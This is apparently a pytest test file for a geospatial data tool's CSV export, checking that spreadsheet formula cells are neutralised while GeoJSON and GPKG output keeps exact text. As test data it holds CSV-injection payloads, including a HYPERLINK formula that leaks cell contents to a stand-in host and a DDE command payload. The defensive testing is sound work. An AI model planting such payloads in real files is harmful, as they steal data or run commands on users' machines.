"""Every CSV the product writes neutralises formula cells (OWASP); GeoJSON and GPKG keep
the exact text; numbers stay numbers (issue 8)."""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pyogrio
import pytest
from hypothesis import given
from hypothesis import strategies as st

from geo.csvsafe import csv_bytes, spreadsheet_cell
from geo.loader import load_dataset
from tests.conftest import PLACES, claim

ROOT = Path(__file__).resolve().parent.parent
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\tindented", "\rreturn"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_text_gets_a_leading_quote(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Ain al-Asad", "250–350", "", " =not first", -250, -1.5, 0, None, True])
def test_other_values_are_untouched(value):
    assert spreadsheet_cell(value) == value


def test_numbers_stay_numbers_and_text_is_neutralised():
    frame = pd.DataFrame({"lon": [-43.25, 12.0], "troops": pd.array([-5, None], dtype="Int64"),
                          "name": ["=1+1", "-x"]})
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8"))))
    assert rows == [["lon", "troops", "name"], ["-43.25", "-5", "'=1+1"], ["12.0", "", "'-x"]]


@pytest.fixture
def formula_data(make_data):
    places = [dict(PLACES[0], name=FORMULAS[0]), dict(PLACES[1], name="@SUM(1+1)"), PLACES[2]]
    return make_data(places=places, claims=[
        claim("c1", "alpha", "2025-08-01", lo="500", hi="500", quote="=cmd|' /C calc'!A0"),
        claim("c2", "bravo", "2025-08-01", lo="200", hi="300")])


def _csv_names(path_or_bytes) -> set[str]:
    text = path_or_bytes.decode("utf-8") if isinstance(path_or_bytes, bytes) else Path(path_or_bytes).read_text("utf-8")
    return {row["name"] for row in csv.DictReader(io.StringIO(text))}


def test_cli_snapshot_and_timeline_csv_are_neutralised(tmp_path, formula_data):
    for args in (["--date", "2025-09-01"], ["--timeline"]):
        out = tmp_path / "x.csv"
        r = subprocess.run([sys.executable, "-m", "geo", "export", "--data", str(formula_data), *args, "-o", str(out)],
                           cwd=ROOT, capture_output=True, text=True, timeout=120)
        assert r.returncode == 0, r.stderr
        names = _csv_names(out)
        assert "'" + FORMULAS[0] in names and "'@SUM(1+1)" in names
        assert not any(n.startswith(("=", "+", "-", "@")) for n in names)
        rows = list(csv.DictReader(out.open(encoding="utf-8")))
        assert all(float(r["lon"]) == float(r["lon"]) for r in rows if r["lon"])   # still numbers


def test_geojson_and_gpkg_keep_the_exact_text(tmp_path, formula_data):
    from geo import export
    from geo.posture import snapshot

    ds = load_dataset(formula_data)
    fc = export.snapshot_geojson(snapshot(ds, dt.date(2025, 9, 1)))
    assert FORMULAS[0] in {f["properties"]["name"] for f in fc["features"]}
    for ext in (".geojson", ".gpkg"):
        back = pyogrio.read_dataframe(export.write(fc, tmp_path / f"x{ext}"))
        assert FORMULAS[0] in set(back["name"]) and "@SUM(1+1)" in set(back["name"])


def test_dashboard_download_and_compare_csv_are_neutralised(formula_data, monkeypatch):
    from geo import analysis
    from geo.posture import snapshot
    from ui import cache

    monkeypatch.setenv(cache.DATA_DIR_ENV, str(formula_data))
    day = dt.date(2025, 9, 1)
    data = cache.export_bytes(day, day, True, ".csv")
    assert "'" + FORMULAS[0] in _csv_names(data)
    ds = load_dataset(formula_data)
    a, b = snapshot(ds, dt.date(2025, 7, 1)), snapshot(ds, day)
    text = analysis.compare_csv(analysis.compare_rows(a, b), a, b).decode("utf-8")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
    assert not any(c.startswith("-") and not _is_number(c) for c in cells)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@given(st.lists(st.one_of(st.none(), st.text(alphabet=st.sampled_from("=+-@\t\r a'\"1,\n—"), max_size=6)),
                min_size=1, max_size=30))
def test_a_text_column_is_neutralised_as_cell_by_cell(cells):
    # csv_bytes treats a text column (pandas' str dtype) as a whole; the result must be
    # spreadsheet_cell's, cell by cell, written by the same CSV writer
    frame = pd.DataFrame({"t": pd.array(cells, dtype="str"), "o": pd.Series(cells, dtype=object)})
    assert str(frame["t"].dtype) == "str"
    one_by_one = frame.copy()
    one_by_one["t"] = pd.Series([spreadsheet_cell(v) for v in cells], dtype=object)
    one_by_one["o"] = pd.Series([spreadsheet_cell(v) for v in cells], dtype=object)
    assert csv_bytes(frame) == one_by_one.to_csv(index=False).encode("utf-8")
